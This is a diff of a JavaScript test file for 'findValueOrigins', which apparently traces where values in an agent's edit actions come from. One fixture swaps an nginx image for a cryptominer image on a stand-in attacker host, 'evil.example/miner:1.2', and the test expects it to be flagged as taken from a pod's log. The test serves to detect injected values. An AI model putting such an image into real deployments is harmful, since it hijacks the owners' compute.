@@ -51,7 +51,7 @@ describe('findValueOrigins', () => {
       { command: 'str_replace', path: 'values.yaml', oldStr: 'image: nginx', newStr: 'image: evil.example/miner:1.2' },
       ["newStr evil.example/miner:1.2: From a pod's log"],
     ],
-    ['a value that nobody wrote', container({ image: 'registry.k8s.io/pause:3.9' }), []],
+    ['a value without a source', container({ image: 'registry.k8s.io/pause:3.9' }), []],
     ['a name of the API', container({ imagePullPolicy: 'IfNotPresent' }), []],
     ['a number', container({ replicas: '1000000' }), []],
   ])('marks %s', (_, action, marks) => {
